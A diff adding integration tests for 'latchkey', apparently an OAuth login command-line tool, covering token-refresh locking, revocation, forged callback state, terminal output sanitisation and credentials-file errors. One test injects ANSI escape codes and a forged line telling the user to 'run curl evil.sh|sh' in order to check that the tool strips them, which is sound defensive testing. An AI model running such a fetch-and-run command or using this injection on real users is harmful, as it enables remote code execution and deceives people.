@@ -5,7 +5,7 @@
  * browser's redirect reach the CLI's loopback listener; for --device it approves the printed code.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { actOnDeviceCode, Browser, fetchTransport, inputValue, signIn } from '../helpers/browser.js';
@@ -98,14 +98,29 @@ describe('latchkey login (browser)', () => {
     expect(credentials().profiles.default!.refresh_token).not.toBe(refreshBefore); // the rotated token was saved
   });
 
-  it('two token runs at once neither corrupt the file nor lose the refresh token', async () => {
+  it('two token runs at once neither corrupt the file nor lose the refresh token, and only one refreshes', async () => {
+    const refreshes = async () => {
+      const text = await (await fetch(`${server.base}/metrics`)).text();
+      return Number(text.match(/latchkey_tokens_issued_total\{grant_type="refresh_token"\} (\d+)/)?.[1] ?? 0);
+    };
     await sleep(1200);
+    const before = await refreshes();
     const [a, b] = await Promise.all([runCli(['token'], cliEnv), runCli(['token'], cliEnv)]);
     expect([a.code, b.code]).toEqual([0, 0]);
+    expect(a.stdout).toBe(b.stdout); // the second waited for the lock and used the first one's token
+    expect((await refreshes()) - before).toBe(1);
     expect(credentials().profiles.default).toBeDefined();
     await sleep(1200);
     const again = await runCli(['token'], cliEnv); // refreshes with whatever refresh token was saved
     expect(again.code).toBe(0);
+  });
+
+  it('whoami after the access token was revoked refreshes once and carries on', async () => {
+    const accessToken = String(credentials().profiles.default!.access_token);
+    await fetch(`${server.base}/oauth/revoke`, { method: 'POST', body: new URLSearchParams({ client_id: 'latchkey-cli', token: accessToken }) });
+    const res = await runCli(['whoami'], cliEnv);
+    expect(res.code).toBe(0);
+    expect(credentials().profiles.default!.access_token).not.toBe(accessToken);
   });
 
   it('whoami shows the claims; --json prints them as JSON on stdout', async () => {
@@ -141,6 +156,38 @@ describe('latchkey login (browser)', () => {
     expect(landing.body).toContain('Sign-in failed');
     expect(await cli.exit).toBe(4);
     expect(cli.stderr()).toContain('latchkey: the sign-in was denied in the browser');
+  });
+
+  it('a callback with the wrong state is refused and ignored; the real one still signs in', async () => {
+    const cli = spawnCli(['login', '--no-browser', '--profile', 'state'], cliEnv);
+    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
+    const redirect = new URL(new URL(url).searchParams.get('redirect_uri')!);
+    const forged = await fetch(`${redirect.href}?error=access_denied&state=not-the-state`);
+    expect(forged.status).toBe(400);
+    const other = await fetch(`${redirect.origin}/other`);
+    expect(other.status).toBe(404);
+    const { landing } = await completeBrowserSignIn(url);
+    expect(landing.status).toBe(200);
+    expect(await cli.exit).toBe(0);
+  });
+
+  it('server text is made safe for the terminal (no escape codes or forged lines)', async () => {
+    const cli = spawnCli(['login', '--no-browser', '--profile', 'escape'], cliEnv);
+    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
+    const authorization = new URL(url);
+    const callback = new URL(authorization.searchParams.get('redirect_uri')!);
+    callback.search = new URLSearchParams({ state: authorization.searchParams.get('state')!, error: 'server_error', error_description: '\u001b[31mRED\u001b[0m\nFAKE LINE: run curl evil.sh|sh' }).toString();
+    const answer = await fetch(callback);
+    expect(answer.status).toBe(400);
+    expect(await cli.exit).toBe(1);
+    expect(cli.stderr()).not.toContain('\u001b');
+    expect(cli.stderr()).toContain('latchkey: the sign-in failed: server_error:  [31mRED [0m FAKE LINE');
+  });
+
+  it('an --issuer that is not a URL is a usage error', async () => {
+    const res = await runCli(['login', '--issuer', 'not-a-url'], cliEnv);
+    expect(res.code).toBe(2);
+    expect(res.stderr).toBe('latchkey: --issuer must be an http(s) URL with no query or fragment, not "not-a-url"\n');
   });
 
   it('suggests --device in an SSH session without a display; Ctrl-C stops cleanly with 130', async () => {
@@ -196,6 +243,33 @@ describe('latchkey login --device', () => {
 });
 
 describe('the credentials file', () => {
+  it('a lock left by a process that died is taken over at once', async () => {
+    await runCli(['login', '--device', '--profile', 'unused'], { ...cliEnv, LATCHKEY_ISSUER: 'http://127.0.0.1:1' }); // fails fast
+    writeFileSync(`${credentialsPath()}.lock`, '999999'); // no such process
+    const started = Date.now();
+    const res = await runCli(['logout', '--profile', 'nobody'], cliEnv);
+    expect(res.code).toBe(0);
+    expect(Date.now() - started).toBeLessThan(5000);
+  });
+
+  it('one damaged profile does not lock the others out', async () => {
+    const file = credentials();
+    file.profiles.broken = { issuer: 'x' } as Record<string, unknown>;
+    writeFileSync(credentialsPath(), JSON.stringify(file));
+    const broken = await runCli(['token', '--profile', 'broken'], cliEnv);
+    expect(broken.code).toBe(1);
+    expect(broken.stderr).toContain('the profile "broken" in');
+    expect((await runCli(['token', '--profile', 'tv'], cliEnv)).code).toBe(0);
+  });
+
+  it('a file that cannot be read is reported as such, not as damaged', async () => {
+    const elsewhere = join(dir, 'odd-home');
+    mkdirSync(join(elsewhere, 'credentials.json'), { recursive: true }); // a directory where the file should be
+    const res = await runCli(['token'], { ...cliEnv, LATCHKEY_HOME: elsewhere });
+    expect(res.code).toBe(1);
+    expect(res.stderr).toBe(`latchkey: cannot read the credentials file ${join(elsewhere, 'credentials.json')}: EISDIR\n`);
+  });
+
   it('a damaged file gets a clear error naming it', async () => {
     writeFileSync(credentialsPath(), '{ not json');
     for (const args of [['token'], ['whoami'], ['login', '--device']]) {
